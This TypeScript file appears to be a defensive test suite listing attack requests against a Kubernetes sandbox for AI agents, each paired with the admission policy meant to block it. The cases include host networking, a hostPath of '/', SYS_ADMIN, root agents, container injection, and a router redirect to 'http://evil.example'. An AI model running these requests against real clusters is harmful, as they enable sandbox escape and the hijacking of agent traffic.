import type { UserAttack } from '../attack.ts';
import { podsBeyondTheFloor } from './pods-beyond-the-floor.ts';
import {
  attack,
  connection,
  first,
  listOf,
  patch,
  pod,
  podPath,
  STRATEGIC,
  written,
} from './requests.ts';

/** What somebody tries who has every right by RBAC, and no role of the platform. */
export const podRequests: readonly UserAttack[] = [
  connection(
    'exec',
    'execute a program beside the agent',
    '/exec?command=sh&container=agent&stdout=true',
  ),
  connection(
    'exec-sidecar',
    'execute a program beside the router',
    '/exec?command=sh&container=router&stdout=true',
  ),
  connection('attach', 'attach to the agent', '/attach?container=agent&stdout=true'),
  connection('port-forward', 'forward the port of the router', '/portforward?ports=8443'),
  connection('pod-proxy', 'ask the router through the API server', ':8443/proxy/v1/models'),
  attack('debug-container', 'add a container to the running pod', 'kars-subresources', (target) =>
    patch(
      target,
      `${podPath(target)}/ephemeralcontainers`,
      {
        spec: {
          ephemeralContainers: [{ name: 'debugger', image: 'registry.example.com/debug:1' }],
        },
      },
      STRATEGIC,
    ),
  ),
  attack(
    'workload',
    'write a workload that makes pods',
    'kars-workloads',
    written('Deployment', (spec) => (spec['replicas'] = 0)),
  ),
  attack(
    'pod-without-guard',
    'make a pod without the guard',
    'kars-pods',
    pod((spec) => void listOf(spec, 'initContainers').shift()),
  ),
  attack(
    'pod-network-of-node',
    'make a pod on the network of the node',
    'kars-pods',
    pod((spec) => (spec['hostNetwork'] = true)),
  ),
  attack(
    'pod-processes-of-node',
    'make a pod that sees the processes of the node',
    'kars-pods',
    pod((spec) => (spec['hostPID'] = true)),
  ),
  attack(
    'pod-identity',
    'make a pod with another identity',
    'kars-pods',
    pod((spec) => (spec['serviceAccountName'] = 'default')),
  ),
  attack(
    'pod-elsewhere',
    'make a pod elsewhere that passes for a sandbox',
    'kars-pods',
    pod((spec, metadata) => {
      spec['serviceAccountName'] = 'default';
      metadata['namespace'] = 'default';
    }),
  ),
  attack(
    'pod-injected',
    'inject a container',
    'kars-pods',
    pod(
      (spec) =>
        void listOf(spec, 'containers').push({
          name: 'injected',
          image: 'registry.example.com/x:1',
        }),
    ),
  ),
  attack(
    'pod-path-of-node',
    'make a pod with a path of the node',
    'kars-pod-volumes',
    pod((spec) => void listOf(spec, 'volumes').push({ name: 'node', hostPath: { path: '/' } })),
  ),
  attack(
    'pod-other-rules',
    'make a pod with packet rules of its own',
    'kars-pod-volumes',
    pod((spec) => {
      for (const volume of listOf(spec, 'volumes'))
        if (volume['name'] === 'hardening') volume['configMap'] = { name: 'mine' };
    }),
  ),
  attack(
    'pod-guard-image',
    'make a pod whose guard is another program',
    'kars-pod-guard',
    pod((spec) => (first(spec, 'initContainers')['image'] = 'registry.example.com/guard:1')),
  ),
  attack(
    'pod-privileged-guard',
    'make a pod with another capability',
    'kars-pod-guard',
    pod((spec) => {
      first(spec, 'initContainers')['securityContext'] = { capabilities: { add: ['SYS_ADMIN'] } };
    }),
  ),
  attack(
    'pod-router-elsewhere',
    'make a pod whose router sends calls elsewhere',
    'kars-pod-sidecars',
    pod((spec) => {
      for (const one of listOf(spec, 'initContainers'))
        if (one['name'] === 'router')
          (one['args'] as string[]).push('--provider-endpoint=openai=http://evil.example');
    }),
  ),
  attack(
    'pod-without-launcher',
    'make a pod whose agent has no launcher',
    'kars-pod-agent',
    pod((spec) => (first(spec, 'containers')['command'] = ['/bin/sh'])),
  ),
  attack(
    'pod-agent-root',
    'make a pod whose agent is root',
    'kars-pod-agent',
    pod((spec) => (first(spec, 'containers')['securityContext'] = { runAsUser: 0 })),
  ),
  ...podsBeyondTheFloor,
  attack('image-swapped', 'swap the image of the running agent', 'kars-pod-updates', (target) =>
    patch(
      target,
      podPath(target),
      { spec: { containers: [{ name: 'agent', image: 'registry.example.com/other:1' }] } },
      STRATEGIC,
    ),
  ),
  attack('label-removed', 'take the labels from the running pod', 'kars-pod-updates', (target) =>
    patch(target, podPath(target), { metadata: { labels: { 'kars.azure.com/component': null } } }),
  ),
  attack('resized', 'give the running agent more', 'kars-pod-resize', (target) =>
    patch(
      target,
      `${podPath(target)}/resize`,
      { spec: { containers: [{ name: 'agent', resources: { limits: { cpu: '4' } } }] } },
      STRATEGIC,
    ),
  ),
];
